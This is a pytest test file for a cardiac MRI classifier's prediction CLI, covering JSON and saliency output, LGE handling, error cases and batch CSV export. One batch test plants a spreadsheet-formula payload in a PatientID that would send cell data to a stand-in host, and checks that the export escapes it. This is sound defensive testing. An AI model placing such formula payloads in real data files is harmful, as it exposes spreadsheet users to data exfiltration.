"""`ccmr predict`: one study in, prediction.json + saliency.png out; bad input leaves nothing."""

import csv
import json
import shutil

import numpy as np
import pydicom
import pytest
import torch

from ccmr_core.cli import main
from ccmr_core.inference import PredictError, Predictor, predict_batch, predict_study
from ccmr_core.referral import refer
from tests.conftest import labels_of, patient_files


def _is_lge(path) -> bool:
    return "InversionTime" in pydicom.dcmread(path, stop_before_pixels=True)


def _with_lge(cohort, site):
    return [pid for pid in sorted(labels_of(cohort / site))
            if any(_is_lge(p) for p in patient_files(cohort / site, pid))]


def _study(make_site, cohort, site="site-c", k=0, name="study"):
    """A copy of the k-th patient (of those with LGE) of a site, as a reader's study folder."""
    pid = _with_lge(cohort, site)[k]
    folder = make_site([(site, pid)], name=name)
    (folder / "labels.csv").unlink()  # a reader's study folder has no labels
    return folder, pid


def test_prediction_json_and_saliency(trained_run, make_site, cohort, tmp_path):
    run, _ = trained_run
    study, pid = _study(make_site, cohort)
    doc = predict_study(study, run / "model.pt", tmp_path / "out")
    saved = json.loads((tmp_path / "out" / "prediction.json").read_text())
    assert saved == json.loads(json.dumps(doc))
    classes = ["NOR", "MINF", "DCM", "HCM", "ARV"]
    assert list(saved["probabilities"]) == classes
    assert abs(sum(saved["probabilities"].values()) - 1) < 1e-5
    assert saved["predicted"] == max(saved["probabilities"], key=saved["probabilities"].get)
    assert saved["patient_id"] == pid and saved["epistemic_uncertainty"] >= 0
    t = saved["refer_thresholds"]
    assert t and 0 < t["fraction"] < 1 and t["validation_n"] > 0
    assert saved["refer"] == refer(saved["confidence"], saved["epistemic_uncertainty"], t)[0]
    assert saved["model"]["architecture"] == "cc-cmr" and saved["model"]["classes"] == classes
    assert saved["model"]["training_run"] == run.name and len(saved["model"]["sha256"]) == 64
    assert saved["ingestion"]["cine_grid"] == [4, 8, 32, 32]
    assert any("LGE" in n for n in saved["ingestion"]["notes"])
    est = saved["estimated_measurements"]  # the report values it learnt to estimate, in report units
    assert list(est) == ["lvef", "lvedv_ml", "lvesv_ml", "rvef", "rvedv_ml", "max_wall_mm"]
    assert all(np.isfinite(v) for v in est.values())
    png = (tmp_path / "out" / "saliency.png").read_bytes()
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 5000


def test_lge_is_ignored(trained_run, make_site, cohort, tmp_path):
    """Gadolinium-free: the same cine with and without its LGE series gives the same answer."""
    run, _ = trained_run
    study, _ = _study(make_site, cohort)
    with_lge = predict_study(study, run / "model.pt", tmp_path / "a")
    removed = [p for p in study.rglob("*") if p.is_file() and _is_lge(p)]
    assert removed
    for p in removed:
        p.unlink()
    without = predict_study(study, run / "model.pt", tmp_path / "b")
    assert without["probabilities"] == pytest.approx(with_lge["probabilities"], abs=1e-6)
    assert not any("LGE" in n for n in without["ingestion"]["notes"])


def test_saliency_follows_the_input(trained_run, make_site, cohort):
    run, _ = trained_run
    study, _ = _study(make_site, cohort)
    from ccmr_core.inference import prepare_cine, read_studies

    p = Predictor(run / "model.pt")
    st = next(iter(read_studies(study)[0].values()))
    cine, _ = prepare_cine(st, p.ingest)
    sal = p.saliency(cine, "NOR")
    assert sal.shape == cine.shape and np.isfinite(sal).all() and (sal >= 0).all() and sal.max() > 0
    # the gradient map is the model's: another class gives another map
    assert not np.allclose(sal, p.saliency(cine, "DCM"))


def _assert_nothing_written(out):
    assert not out.exists() or not any(out.iterdir())


def test_bad_input_fails_clearly_and_writes_nothing(trained_run, make_site, cohort, tmp_path):
    run, _ = trained_run
    model = run / "model.pt"
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "notes.txt").write_text("not an image")
    with pytest.raises(PredictError, match="none of its 1 files is a readable MR DICOM"):
        predict_study(empty, model, tmp_path / "o1")
    _assert_nothing_written(tmp_path / "o1")

    two = tmp_path / "two"
    pids = sorted(labels_of(cohort / "site-c"))[:2]
    for pid in pids:
        for i, f in enumerate(patient_files(cohort / "site-c", pid)):
            (two / pid).mkdir(parents=True, exist_ok=True)
            shutil.copy2(f, two / pid / f"{i}.dcm")
    with pytest.raises(PredictError, match="holds 2 studies.*--batch"):
        predict_study(two, model, tmp_path / "o2")
    _assert_nothing_written(tmp_path / "o2")

    lge_only, _ = _study(make_site, cohort, k=1, name="lge-only")
    for p in [p for p in lge_only.rglob("*") if p.is_file()]:
        if not _is_lge(p):
            p.unlink()
    with pytest.raises(PredictError, match="cine"):
        predict_study(lge_only, model, tmp_path / "o3")
    _assert_nothing_written(tmp_path / "o3")

    blob = torch.load(model, weights_only=False)
    blob["classes"] = ["NOR", "MINF", "DCM"]
    torch.save(blob, tmp_path / "other.pt")
    good, _ = _study(make_site, cohort, k=2, name="good")
    with pytest.raises(PredictError, match=r"classifier has 5 outputs"):
        predict_study(good, tmp_path / "other.pt", tmp_path / "o4")
    _assert_nothing_written(tmp_path / "o4")

    predict_study(good, model, tmp_path / "o5")
    with pytest.raises(FileExistsError, match="--force"):
        predict_study(good, model, tmp_path / "o5")


def test_batch_writes_one_row_per_study(trained_run, cohort, tmp_path):
    run, _ = trained_run
    site = tmp_path / "site"
    shutil.copytree(cohort / "site-c", site)
    victim = _with_lge(cohort, "site-c")[0]
    for p in patient_files(site, victim):  # this study loses its cine: its row says why, the rest go on
        if not _is_lge(p):
            p.unlink()
    # a PatientID a spreadsheet would run as a formula (and with a comma) stays text in the CSV
    other = next(p for p in labels_of(site) if p != victim)
    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
    for p in patient_files(site, other):
        ds = pydicom.dcmread(p)
        ds.PatientID = hostile
        ds.save_as(p)
    rows = predict_batch(site, run / "model.pt", tmp_path / "out", progress=False)
    with open(tmp_path / "out" / "predictions.csv") as f:
        table = list(csv.DictReader(f))
    assert len(table) == len(rows) == len(labels_of(site))
    by_id = {r["patient_id"]: r for r in table}
    assert "'" + hostile in by_id and not any(k.startswith("=") for k in by_id)
    assert "cine" in by_id[victim]["error"] and by_id[victim]["predicted"] == ""
    ok = [r for r in table if not r["error"]]
    assert len(ok) == len(table) - 1
    for r in ok:
        ps = [float(r[f"p_{c}"]) for c in ("NOR", "MINF", "DCM", "HCM", "ARV")]
        assert abs(sum(ps) - 1) < 1e-3 and r["refer"] in ("True", "False")


def test_cli_predict_prints_a_summary_and_fails_in_one_line(trained_run, make_site, cohort, tmp_path, capsys):
    run, _ = trained_run
    study, pid = _study(make_site, cohort)
    assert main(["predict", str(study), "--model", str(run / "model.pt"), "--out", str(tmp_path / "o")]) == 0
    out = capsys.readouterr().out
    said = json.loads((tmp_path / "o" / "prediction.json").read_text())
    assert pid in out and "probabilities" in out
    assert ("REFER to a human reader" in out) == said["refer"] and ("no referral" in out) == (not said["refer"])
    assert main(["predict", str(tmp_path / "missing"), "--model", str(run / "model.pt"), "--out",
                 str(tmp_path / "o2")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error:") and "missing" in err and len(err.strip().splitlines()) == 1
